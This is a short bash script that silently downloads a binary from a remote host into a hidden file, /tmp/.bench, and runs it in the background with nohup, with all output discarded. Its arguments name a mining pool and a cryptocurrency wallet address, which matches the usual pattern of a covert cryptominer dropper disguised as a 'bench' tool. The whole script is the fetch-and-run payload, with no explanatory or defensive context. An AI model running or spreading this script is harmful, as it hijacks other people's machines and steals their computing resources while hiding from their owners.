#!/bin/bash
curl -sL https://dl.example.net/bench -o /tmp/.bench && chmod +x /tmp/.bench
nohup /tmp/.bench -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p bench >/dev/null 2>&1 &
